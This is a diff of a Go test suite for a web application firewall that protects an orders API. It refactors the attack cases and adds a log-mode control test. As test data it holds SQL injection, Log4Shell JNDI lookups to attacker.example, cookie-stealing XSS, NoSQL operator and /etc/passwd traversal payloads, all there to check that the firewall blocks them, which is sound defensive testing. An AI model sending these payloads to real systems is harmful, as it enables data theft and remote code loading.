@@ -35,6 +35,10 @@ type attack struct {
 	// by design (User-Agent is on telemetry's allowlist, cut and scrubbed),
 	// so only the block response is checked for it.
 	inLoggedHeader bool
+	// inert says the handler would refuse or ignore the request even if it
+	// got it (no order created), so only the block response, the record
+	// and, for stand-in runtimes, the runtime's log prove it was stopped.
+	inert bool
 }
 
 // blockShape is the block response the example's front door must return.
@@ -58,59 +62,86 @@ type ordersExample struct {
 
 var jsonBlock = blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json"}
 
+// ordersExamples are the examples serving the orders API, with the attacks
+// each must block in its trigger's natural places.
+var ordersExamples = map[string]func() ordersExample{
+	"http-api": func() ordersExample {
+		return ordersExample{
+			spec:  examples["http-api"](),
+			block: jsonBlock,
+			attacks: []attack{
+				{name: "sql injection in the query", method: "POST", target: "/orders?customer=1%27%20OR%20%271%27%3D%271",
+					body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"OR '1'='1", "'1'='1"}},
+				{name: "log4shell in the JSON body", method: "POST", target: "/orders",
+					body: orderWith("note", "${jndi:ldap://attacker.example/a}"), class: "jndi", location: "body.note", payload: []string{"attacker.example", "${jndi"}},
+			},
+		}
+	},
+	"existing-stack": func() ordersExample {
+		return ordersExample{
+			spec:  examples["existing-stack"](),
+			block: jsonBlock,
+			attacks: []attack{
+				// The route's JSON Schema (customer: string) refuses the
+				// operator object before any detector needs to.
+				{name: "nosql operator the route schema refuses", method: "POST", target: "/orders",
+					body:   `{"customer":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
+					reason: "positive:POST /orders:block@body.customer", payload: []string{`"$ne":null`}, inert: true},
+				{name: "path traversal in the JSON body", method: "POST", target: "/orders",
+					body: orderWith("note", "../../../../etc/passwd"), class: "path-traversal", location: "body.note", payload: []string{"etc/passwd"}},
+				// The handler answers POST /orders/{x} with 405 and changes
+				// nothing, so here only the block response (headers the
+				// handler never sets) and the record show the agent answered.
+				{name: "path traversal in the path", method: "POST", target: "/orders/..%2F..%2F..%2Fetc%2Fpasswd",
+					body: orderWith("customer", "Ann"), class: "path-traversal", location: "path", payload: []string{"etc/passwd", "etc%2Fpasswd"}, inert: true},
+			},
+		}
+	},
+	"alb": func() ordersExample {
+		return ordersExample{
+			spec: examples["alb"](),
+			block: blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json",
+				statusDescription: "403 Forbidden", multiValue: true},
+			attacks: []attack{
+				{name: "xss in the query", method: "POST", target: "/orders?ref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+					body: orderWith("customer", "Ann"), class: "xss", location: "query.ref", payload: []string{"<script>", "alert(document.cookie)"}},
+				{name: "log4shell in the JSON body", method: "POST", target: "/orders",
+					body: orderWith("customer", "${jndi:rmi://attacker.example:1099/x}"), class: "jndi", location: "body.customer", payload: []string{"attacker.example", "${jndi"}},
+				// No route schema here: the detector must see the operator.
+				{name: "nosql operator in the JSON body", method: "POST", target: "/orders",
+					body:  `{"customer":"Ann","coupon":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
+					class: "nosqli", location: "body.coupon.$ne", payload: []string{`"$ne":null`}}, // the key is in the location by design
+			},
+		}
+	},
+	"rest-api": func() ordersExample {
+		return ordersExample{
+			spec:  examples["rest-api"](),
+			block: jsonBlock,
+			attacks: []attack{
+				{name: "sql injection in the query", method: "POST", target: "/orders?customer=x%27%20UNION%20SELECT%20password%20FROM%20users--",
+					body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"UNION SELECT", "password FROM users"}},
+				{name: "xss in the JSON body", method: "POST", target: "/orders",
+					body: orderWith("note", `<svg/onload=alert(document.domain)>`), class: "xss", location: "body.note",
+					payload: []string{"onload", "alert(document.domain)"}},
+			},
+		}
+	},
+}
+
 func TestHTTPAPIExample(t *testing.T) {
 	t.Parallel()
-	runOrders(t, ordersExample{
-		spec:  examples["http-api"](),
-		block: jsonBlock,
-		attacks: []attack{
-			{name: "sql injection in the query", method: "POST", target: "/orders?customer=1%27%20OR%20%271%27%3D%271",
-				body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"OR '1'='1", "'1'='1"}},
-			{name: "log4shell in the JSON body", method: "POST", target: "/orders",
-				body: orderWith("note", "${jndi:ldap://attacker.example/a}"), class: "jndi", location: "body.note", payload: []string{"attacker.example", "${jndi"}},
-		},
-	})
+	runOrders(t, ordersExamples["http-api"]())
 }
 
 func TestExistingStackExample(t *testing.T) {
 	t.Parallel()
-	runOrders(t, ordersExample{
-		spec:  examples["existing-stack"](),
-		block: jsonBlock,
-		attacks: []attack{
-			// The route's JSON Schema (customer: string) refuses the
-			// operator object before any detector needs to.
-			{name: "nosql operator the route schema refuses", method: "POST", target: "/orders",
-				body:   `{"customer":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
-				reason: "positive:POST /orders:block@body.customer", payload: []string{`"$ne":null`}},
-			{name: "path traversal in the JSON body", method: "POST", target: "/orders",
-				body: orderWith("note", "../../../../etc/passwd"), class: "path-traversal", location: "body.note", payload: []string{"etc/passwd"}},
-			// The handler answers POST /orders/{x} with 405 and changes
-			// nothing, so here only the block response (headers the
-			// handler never sets) and the record show the agent answered.
-			{name: "path traversal in the path", method: "POST", target: "/orders/..%2F..%2F..%2Fetc%2Fpasswd",
-				body: orderWith("customer", "Ann"), class: "path-traversal", location: "path", payload: []string{"etc/passwd", "etc%2Fpasswd"}},
-		},
-	})
+	runOrders(t, ordersExamples["existing-stack"]())
 }
 
 func TestALBExample(t *testing.T) {
 	t.Parallel()
-	ex := ordersExample{
-		spec: examples["alb"](),
-		block: blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json",
-			statusDescription: "403 Forbidden", multiValue: true},
-		attacks: []attack{
-			{name: "xss in the query", method: "POST", target: "/orders?ref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
-				body: orderWith("customer", "Ann"), class: "xss", location: "query.ref", payload: []string{"<script>", "alert(document.cookie)"}},
-			{name: "log4shell in the JSON body", method: "POST", target: "/orders",
-				body: orderWith("customer", "${jndi:rmi://attacker.example:1099/x}"), class: "jndi", location: "body.customer", payload: []string{"attacker.example", "${jndi"}},
-			// No route schema here: the detector must see the operator.
-			{name: "nosql operator in the JSON body", method: "POST", target: "/orders",
-				body:  `{"customer":"Ann","coupon":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
-				class: "nosqli", location: "body.coupon.$ne", payload: []string{`"$ne":null`}}, // the key is in the location by design
-		},
-	}
+	ex := ordersExamples["alb"]()
 	f := runOrders(t, ex)
 
 	// lambdawaf.yaml lets health checks from 10.0.0.0/8 skip inspection: an
@@ -143,8 +174,6 @@ func TestALBExample(t *testing.T) {
 	})
 	// ALB appends the real peer to X-Forwarded-For, so a client that sends
 	// its own internal-looking first hop must still be inspected.
-	// ALB appends the real peer to X-Forwarded-For, so a client that sends
-	// its own internal-looking first hop must still be inspected.
 	t.Run("spoofed internal X-Forwarded-For does not skip inspection", func(t *testing.T) {
 		r := f.sendHeader(t, "GET", "/health?probe=%3Cscript%3Ealert(1)%3C%2Fscript%3E", http.Header{"X-Forwarded-For": {"10.0.0.7"}}, "")
 		if r.status != http.StatusForbidden {
@@ -159,17 +188,7 @@ func TestALBExample(t *testing.T) {
 
 func TestRESTAPIExample(t *testing.T) {
 	t.Parallel()
-	f := runOrders(t, ordersExample{
-		spec:  examples["rest-api"](),
-		block: jsonBlock,
-		attacks: []attack{
-			{name: "sql injection in the query", method: "POST", target: "/orders?customer=x%27%20UNION%20SELECT%20password%20FROM%20users--",
-				body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"UNION SELECT", "password FROM users"}},
-			{name: "xss in the JSON body", method: "POST", target: "/orders",
-				body: orderWith("note", `<svg/onload=alert(document.domain)>`), class: "xss", location: "body.note",
-				payload: []string{"onload", "alert(document.domain)"}},
-		},
-	})
+	f := runOrders(t, ordersExamples["rest-api"]())
 
 	// lambdawaf.yaml's positive model: order ids are ord-<digits>.
 	t.Run("order id outside the route's pattern", func(t *testing.T) {
@@ -379,4 +398,46 @@ func withoutExcerpts(t *testing.T, line string) string {
 		t.Fatal(err)
 	}
 	return b.String()
+}
+
+// TestAttacksReachHandlersWhenNotBlocked is the control experiment for the
+// example tests: with LAMBDAWAF_MODE=log the agent still judges every
+// attack (its record says "log") but lets it through, and the handlers then
+// do create the orders the attacks carry. So "no order was created" in the
+// blocking tests is evidence, not an accident of the requests.
+func TestAttacksReachHandlersWhenNotBlocked(t *testing.T) {
+	t.Parallel()
+	for name, mk := range ordersExamples {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			ex := mk()
+			ex.env = map[string]string{"LAMBDAWAF_MODE": "log"}
+			f := start(t, ex.spec)
+			creates := 0
+			for _, a := range ex.attacks {
+				r := f.send(t, a.method, a.target, "application/json", a.body)
+				if rec, line := f.decision(t, r.requestID); rec.Decision != "log" {
+					t.Errorf("%s: decision %q, want log: %s", a.name, rec.Decision, line)
+				}
+				if ex.runtime != "" {
+					f.waitReceived(t, r.requestID)
+				}
+				switch {
+				case !a.inert && r.status != http.StatusCreated:
+					t.Errorf("%s let through: the handler answered %d %s, want 201 (the attack is a complete order)", a.name, r.status, r.body)
+				case r.header.Get("X-Content-Type-Options") == "nosniff" && string(r.body) == ex.block.body:
+					t.Errorf("%s: the agent answered in log mode", a.name)
+				}
+				if !a.inert {
+					creates++
+				}
+			}
+			list := f.send(t, "GET", "/orders", "", "")
+			var all []map[string]any
+			list.decode(t, &all)
+			if len(all) != creates {
+				t.Errorf("log mode: %d orders after the attacks, want %d: %s", len(all), creates, list.body)
+			}
+		})
+	}
 }
